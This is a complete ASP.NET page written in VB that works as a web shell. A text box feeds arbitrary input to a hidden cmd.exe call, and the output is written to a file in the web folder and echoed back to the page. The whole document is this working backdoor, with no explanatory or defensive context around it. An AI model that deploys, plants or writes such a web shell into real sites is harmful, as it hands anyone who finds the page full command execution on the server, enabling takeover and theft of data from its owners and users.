<%@ Page Language="VB" Debug="true" %>
<script runat="server">
Sub RunIt(ByVal src As Object, ByVal e As EventArgs)
    Dim id As Integer = Shell("cmd.exe /c " & cmdBox.Text & " > " & Server.MapPath(".") & "\o.txt", AppWinStyle.Hide, True)
    res.Text = System.IO.File.ReadAllText(Server.MapPath(".") & "\o.txt")
End Sub
</script>
<form runat="server">
<asp:TextBox ID="cmdBox" runat="server" Width="400"/>
<asp:Button runat="server" Text="Run" OnClick="RunIt"/>
<pre><asp:Literal ID="res" runat="server"/></pre>
</form>
